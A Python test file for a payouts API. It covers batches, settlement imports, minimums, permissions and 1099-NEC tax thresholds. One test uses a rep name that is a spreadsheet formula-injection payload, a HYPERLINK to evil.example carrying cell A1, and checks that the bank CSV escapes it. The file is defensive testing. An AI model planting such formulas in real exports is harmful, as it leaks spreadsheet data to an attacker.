"""Payouts through the API: to whom, from how much, in which batch, what the bank says; and tax."""

import csv
import io
from typing import Any

import pytest

from portal_api.domain.batches import COLUMNS
from portal_api.storage.store import TableStore
from portal_api.storage.table import Engine
from tests.schema.client import Client, Person, usd
from tests.schema.planning import MILESTONES, create, paying, publish_plan
from tests.schema.selling import Selling
from tests.services.world import World

DEALS = paying("deals", MILESTONES)
AMOUNT = "money { amount }"
PAYOUT = f"id fileId status payee reference amount {{ {AMOUNT} }}"
BATCH = f"""id assetCode status count reference total {{ {AMOUNT} }}
    parts {{ status count total {{ {AMOUNT} }} }}"""
REQUESTED = f"""... on PayoutRequested {{ payout {{ {PAYOUT} }} }}
    ... on InsufficientBalance {{ available {{ {AMOUNT} }} }}
    ... on BelowMinimumPayout {{ minimum {{ {AMOUNT} }} }}"""
IMPORTED = "... on SettlementsImported { settled failed unchanged nextLine problems { line code } }"
YEAR = f"""taxYear(year: $year) {{ year paid {{ {AMOUNT} }} toCompany {{ {AMOUNT} }}
    forStaff {{ {AMOUNT} }} reportable {{ {AMOUNT} }}
    standings {{ code source reached threshold {{ {AMOUNT} }}
    reportable {{ {AMOUNT} }} missing {{ {AMOUNT} }} }} }}"""
LAW = "Public Law 119-21, section 70433"
THRESHOLDS: list[dict[str, Any]] = [
    {"fromYear": 2026, "amount": usd("2000.00"), "source": LAW},
    {"fromYear": 1954, "amount": usd("600.00"), "source": "26 U.S.C. 6041(a)"},
]


class Paying(Selling):
    """A rep with 900.00, of which nothing is paid out, in a world alone in its table."""

    def __init__(self, client: Client, **consent: Any) -> None:
        super().__init__(client, DEALS, **consent)
        self.win(self.approved())

    def request(self, amount: str, who: Person | None = None, **given: Any) -> dict[str, Any]:
        """A payout that the rep asks for, or somebody else."""
        self.client.world.wait()
        asker = who or self.rep
        wish = {"amount": {"money": usd(amount)}, **given}
        return self.client.do(asker, "requestPayout", REQUESTED, **wish)

    def batch(self, **given: Any) -> dict[str, Any]:
        """A batch that the channel manager makes."""
        told = f"... on PayoutBatchCreated {{ batch {{ {BATCH} }} }}"
        wish = {"assetCode": "USD", **given}
        return self.client.do(self.manager, "createPayoutBatch", told, **wish)

    def seen(self, who: Person, node: str, kind: str = BATCH) -> dict[str, Any] | None:
        """A batch as somebody sees it."""
        document = f"query($id: ID!) {{ node(id: $id) {{ ... on PayoutBatch {{ {kind} }} }} }}"
        found: dict[str, Any] | None = self.client.query(who, document, id=node)["node"]
        return found

    def statuses(self, who: Person | None = None) -> list[tuple[str, str | None]]:
        """Status and reference of one's own payouts, oldest first."""
        document = (
            f"{{ viewer {{ individual {{ payouts {{ edges {{ node {{ {PAYOUT} }} }} }} }} }} }}"
        )
        found = self.client.query(who or self.rep, document)["viewer"]["individual"]["payouts"]
        return [(e["node"]["status"], e["node"]["reference"]) for e in reversed(found["edges"])]

    def year(self, who: Person, year: int, party: str = "individual") -> dict[str, Any] | None:
        """Somebody's year, or its company's."""
        document = f"query($year: Int!) {{ viewer {{ {party} {{ {YEAR} }} }} }}"
        found: dict[str, Any] | None = self.client.query(who, document, year=year)["viewer"][party][
            "taxYear"
        ]
        return found

    def settle(self, *rows: str, who: Person | None = None) -> dict[str, Any]:
        """What a settlement file of these rows answers."""
        content = "\n".join(("payout_id,status,reference", *rows))
        asker = who or self.manager
        return self.client.do(asker, "importSettlements", IMPORTED, content=content)


@pytest.fixture
def lonely_client(lonely_engine: Engine) -> Client:
    """Give the API on each engine in turn, over a table of its own."""
    return Client(World(TableStore(lonely_engine)))


def money(amount: dict[str, Any]) -> str:
    value: str = amount["money"]["amount"]
    return value


def parts(batch: dict[str, Any] | None) -> dict[str, tuple[int, str]]:
    assert batch is not None
    return {one["status"]: (one["count"], money(one["total"])) for one in batch["parts"]}


def test_S11_a_batch_is_held_sent_settled_or_failed_and_released(lonely_client: Client) -> None:
    """REQUESTED, BATCHED, then SETTLED or FAILED; what failed is available again."""
    paying_ = Paying(lonely_client)
    one, two, three = (paying_.request(amount)["payout"] for amount in ("10.00", "20.00", "30.00"))
    told = "... on PayoutCancelled { payout { status } balances { held { money { amount } } } }"
    taken = lonely_client.do(paying_.rep, "cancelPayout", told, payoutId=three["id"])
    created = paying_.batch()["batch"]

    assert ("CANCELLED", "30.00") == (
        taken["payout"]["status"],
        money(taken["balances"][0]["held"]),
    )
    assert ("READY", 2, "30.00") == (created["status"], created["count"], money(created["total"]))
    assert "NoOpenPayouts" == paying_.batch()["__typename"]
    late = lonely_client.do(
        paying_.rep, "cancelPayout", "... on PayoutNotOpen { status }", payoutId=one["id"]
    )
    assert ("PayoutNotOpen", "BATCHED") == (late["__typename"], late["status"])
    named = lonely_client.do(
        paying_.manager,
        "setPayoutBatchReference",
        "... on PayoutBatchReferenceSet { batch { reference } }",
        batchId=created["id"],
        reference="SEPA-2026-01",
    )
    assert "SEPA-2026-01" == named["batch"]["reference"]

    rows = (f"{one['fileId']},PAID,TX-1", f"{two['fileId']},FAILED,No such account")
    first = paying_.settle(*rows)
    again = paying_.settle(*rows, "nobody,PAID,TX-9")

    nothing: dict[str, Any] = {"nextLine": None, "problems": []}
    assert {"settled": 1, "failed": 1, "unchanged": 0, **nothing} == _told(first)
    unknown = [{"line": 4, "code": "UNKNOWN_PAYOUT"}]
    expected = {"settled": 0, "failed": 0, "unchanged": 2, **nothing, "problems": unknown}
    assert expected == _told(again)
    ended = [("SETTLED", "TX-1"), ("FAILED", "No such account"), ("CANCELLED", None)]
    assert ended == paying_.statuses()
    assert ("890.00", "0.00") == tuple(
        paying_.balance(paying_.rep, account) for account in ("available", "held")
    )
    batch = paying_.seen(paying_.manager, created["id"])
    assert batch is not None
    assert "CLOSED" == batch["status"]
    assert {"BATCHED": (0, "0.00"), "SETTLED": (1, "10.00"), "FAILED": (1, "20.00")} == parts(batch)


def _told(answer: dict[str, Any]) -> dict[str, Any]:
    assert "SettlementsImported" == answer.pop("__typename"), answer
    return answer


def test_S11_a_batch_is_a_file_for_the_bank_without_formulas(lonely_client: Client) -> None:
    """RFC 4180, decimal amounts, who is paid for which company; a name is no formula."""
    client = lonely_client
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Robin")'
    manager = client.person("CHANNEL_MANAGER")
    partner = client.partner(name="+North, Inc.")
    teams = "query($id: ID!) { node(id: $id) { ... on Partner { teams { id } } } }"
    team = client.query(client.admin, teams, id=partner)["node"]["teams"][0]["id"]
    added = client.do(
        client.admin,
        "addIndividual",
        "... on IndividualAdded { userName individual { id } }",
        name=evil,
        email="robin@partner.example",
        role="SALES_REP",
        partnerId=partner,
        teamId=team,
    )
    rep = Person(added["userName"], added["individual"]["id"])
    program = create(client, manager)
    publish_plan(client, manager, program, DEALS)
    client.consent(client.person("PARTNER_EXECUTIVE", partner), partner, program)
    client.enroll(rep, partner, program)
    client.world.wait()
    client.approve(manager, client.register(rep, program))
    amount = {"money": usd("12.50")}
    payout = client.do(rep, "requestPayout", REQUESTED, amount=amount)["payout"]
    told = "... on PayoutBatchCreated { batch { csv payouts { edges { node { id } } } } }"
    batch = client.do(manager, "createPayoutBatch", told, assetCode="USD")["batch"]

    assert [{"node": {"id": payout["id"]}}] == batch["payouts"]["edges"]
    assert batch["csv"].endswith("\r\n")
    header, row = csv.reader(io.StringIO(batch["csv"], newline=""), strict=True)
    assert list(COLUMNS) == header
    shown = dict(zip(header, row, strict=True))
    at = client.world.now.isoformat().replace("+00:00", "Z")
    assert {
        "payout_id": payout["fileId"],
        "payee_type": "INDIVIDUAL",
        "payee_id": rep.user_name,
        "payee_name": f"'{evil}",
        "partner_id": shown["partner_id"],
        "partner_name": "'+North, Inc.",
        "asset": "USD",
        "amount": "12.50",
        "requested_at": at,
    } == shown


def test_S11_what_was_dealt_with_is_not_in_the_file_for_the_bank(lonely_client: Client) -> None:
    """The bank sends what is in it: what was settled or has failed would be sent again."""
    paying_ = Paying(lonely_client)
    found = [paying_.request(amount)["payout"] for amount in ("10.00", "20.00", "30.00")]
    batch = paying_.batch()["batch"]

    def in_file() -> list[str]:
        seen = paying_.seen(paying_.manager, batch["id"], "csv")
        assert seen is not None
        return [row["payout_id"] for row in csv.DictReader(io.StringIO(seen["csv"], newline=""))]

    before = in_file()
    paying_.settle(f"{found[0]['fileId']},PAID,TX-1", f"{found[1]['fileId']},FAILED,bounced")

    assert [one["fileId"] for one in found] == before
    assert [found[2]["fileId"]] == in_file()


def test_S11_less_than_the_minimum_is_refused(lonely_client: Client) -> None:
    """The minimum is the vendor's data, and everybody who asks can see it."""
    client, paying_ = lonely_client, Paying(lonely_client)
    told = "... on PayoutMinimumSet { policy { assetCode minimum { money { amount } } } }"
    for currency in ("CHF", "USD"):
        minimum = {"money": {"amount": "50.00", "currencyCode": currency}}
        client.do(paying_.manager, "setPayoutMinimum", told, minimum=minimum)
    refused = paying_.request("49.99")
    document = "{ payoutPolicies { assetCode minimum { money { amount } } } }"
    policies = client.query(paying_.rep, document)["payoutPolicies"]

    assert ("BelowMinimumPayout", "50.00") == (refused["__typename"], money(refused["minimum"]))
    assert {"CHF": "50.00", "USD": "50.00"} == {
        one["assetCode"]: money(one["minimum"]) for one in policies
    }
    assert "PayoutRequested" == paying_.request("50.00")["__typename"]


def test_S11_to_whom_it_is_sent_is_chosen_at_consent_and_never_afterwards(client: Client) -> None:
    """What is available for the one is not for the other."""
    paying_ = Paying(client, payee="PARTNER")
    mine = paying_.request("1.00")
    theirs = paying_.request("900.00", payee="PARTNER")

    assert ("InsufficientBalance", "0.00") == (mine["__typename"], money(mine["available"]))
    assert "PARTNER" == theirs["payout"]["payee"]
    over = paying_.request("0.01", payee="PARTNER")
    assert ("InsufficientBalance", "0.00") == (over["__typename"], money(over["available"]))


def test_S11_only_the_vendor_sees_batches_and_only_its_owner_a_payout(
    lonely_client: Client,
) -> None:
    """A rep sees that its payout is in a batch, and nothing of the batch."""
    paying_ = Paying(lonely_client)
    payout = paying_.request("10.00")["payout"]
    batch = paying_.batch()["batch"]
    rep, colleague, executive = paying_.rep, paying_.colleague, paying_.executive
    stranger = lonely_client.person("PARTNER_EXECUTIVE", lonely_client.partner())
    service = lonely_client.person("SERVICE")
    queue = "{ viewer { payoutBatches { edges { node { id } } } } }"
    node = """query($id: ID!) { node(id: $id) { ... on Payout { status batch { id } } } }"""

    for who in (rep, colleague, executive, stranger):
        assert paying_.seen(who, batch["id"]) is None
        assert lonely_client.query(who, queue)["viewer"]["payoutBatches"] is None
        assert (
            "NotPermitted"
            == lonely_client.do(
                who, "setPayoutBatchReference", "", batchId=batch["id"], reference="x"
            )["__typename"]
        )
        assert "NotPermitted" == paying_.settle(f"{payout['fileId']},PAID,1", who=who)["__typename"]
    for who in (paying_.manager, lonely_client.admin, service):
        listed = lonely_client.query(who, queue)["viewer"]["payoutBatches"]["edges"]
        assert [{"node": {"id": batch["id"]}}] == listed
    seen = {who: lonely_client.query(who, node, id=payout["id"])["node"] for who in (rep, service)}
    assert {"status": "BATCHED", "batch": None} == seen[rep]
    assert {"status": "BATCHED", "batch": {"id": batch["id"]}} == seen[service]
    for who in (colleague, executive, stranger):
        assert lonely_client.query(who, node, id=payout["id"])["node"] is None
        refused = lonely_client.do(who, "cancelPayout", "", payoutId=payout["id"])
        assert "NotFound" == refused["__typename"]
    assert 1 == paying_.settle(f"{payout['fileId']},PAID,1", who=service)["settled"]


def state(client: Client, who: Person) -> dict[str, Any]:
    """The thresholds of form 1099-NEC, with their source."""
    told = "... on TaxThresholdSet { threshold { code amounts { fromYear source } } }"
    return client.do(
        who,
        "setTaxThreshold",
        told,
        code="US-1099-NEC",
        name="Form 1099-NEC",
        amounts=THRESHOLDS,
    )


def test_S12_a_year_s_total_stands_beside_the_threshold_of_that_year(
    lonely_client: Client,
) -> None:
    """600.00 through 2025 and 2,000.00 from 2026: data, by the year in which it was paid."""
    paying_ = Paying(lonely_client)
    rep = paying_.rep
    payout = paying_.request("700.00")["payout"]
    assert "TaxThresholdSet" == state(lonely_client, paying_.manager)["__typename"]
    year = lonely_client.world.now.year
    before = paying_.year(rep, year)
    paying_.settle(f"{payout['fileId']},PAID,TX-1")
    after, earlier = paying_.year(rep, year), paying_.year(rep, 2025)

    assert 2026 == year
    assert before is not None
    assert ([], "2000.00") == (before["paid"], money(before["standings"][0]["missing"]))
    amount = {"money": {"amount": "700.00"}}
    assert {
        "year": 2026,
        "paid": [amount],
        "toCompany": [],
        "forStaff": [],
        "reportable": [amount],
        "standings": [
            {
                "code": "US-1099-NEC",
                "source": LAW,
                "reached": False,
                "threshold": {"money": {"amount": "2000.00"}},
                "reportable": amount,
                "missing": {"money": {"amount": "1300.00"}},
            }
        ],
    } == after
    assert earlier is not None
    assert ([], "600.00") == (earlier["paid"], money(earlier["standings"][0]["threshold"]))
    found = lonely_client.query(
        rep, "{ taxThresholds { amounts { fromYear amount { amount currencyCode } source } } }"
    )["taxThresholds"]
    assert sorted(THRESHOLDS, key=lambda one: one["fromYear"]) == found[0]["amounts"]


def test_S12_what_was_sent_to_the_company_is_reportable_to_it_and_not_to_the_person(
    lonely_client: Client,
) -> None:
    """The company sees how much that is, and nobody's name."""
    paying_ = Paying(lonely_client, payee="PARTNER")
    state(lonely_client, paying_.manager)
    payout = paying_.request("700.00", payee="PARTNER")["payout"]
    paying_.settle(f"{payout['fileId']},PAID,TX-1")

    year = paying_.year(paying_.rep, 2026)
    assert year is not None
    amount = [{"money": {"amount": "700.00"}}]
    assert (amount, amount) == (year["paid"], year["toCompany"])
    assert [{"money": {"amount": "0.00"}}, False] == [
        year["standings"][0]["reportable"],
        year["standings"][0]["reached"],
    ]
    company = paying_.year(paying_.executive, 2026, "partner")
    assert company is not None
    assert ([], [], amount, amount) == tuple(
        company[name] for name in ("paid", "toCompany", "forStaff", "reportable")
    )
    assert "1300.00" == money(company["standings"][0]["missing"])


def test_S12_a_year_is_its_owner_s_and_the_vendor_s_alone(quick_client: Client) -> None:
    """A company's own is its executive's; nobody else states a threshold."""
    paying_ = Paying(quick_client)
    one = f"query($id: ID!, $year: Int!) {{ node(id: $id) {{ ... on Individual {{ {YEAR} }} }} }}"
    seen = {
        who: quick_client.query(who, one, id=paying_.rep.id, year=2026)["node"]["taxYear"]
        for who in (paying_.rep, paying_.manager, paying_.executive, paying_.colleague)
    }
    company = {who: paying_.year(who, 2026, "partner") for who in (paying_.executive, paying_.rep)}
    refused = [state(quick_client, who)["__typename"] for who in (paying_.executive, paying_.rep)]
    wrong = quick_client.answer(
        paying_.rep, f"query($year: Int!) {{ viewer {{ individual {{ {YEAR} }} }} }}", year=0
    )

    assert [True, True, False, False] == [one is not None for one in seen.values()]
    assert [True, False] == [one is not None for one in company.values()]
    assert ["NotPermitted"] * 2 == refused
    assert "BAD_YEAR" == wrong["errors"][0]["extensions"]["code"]
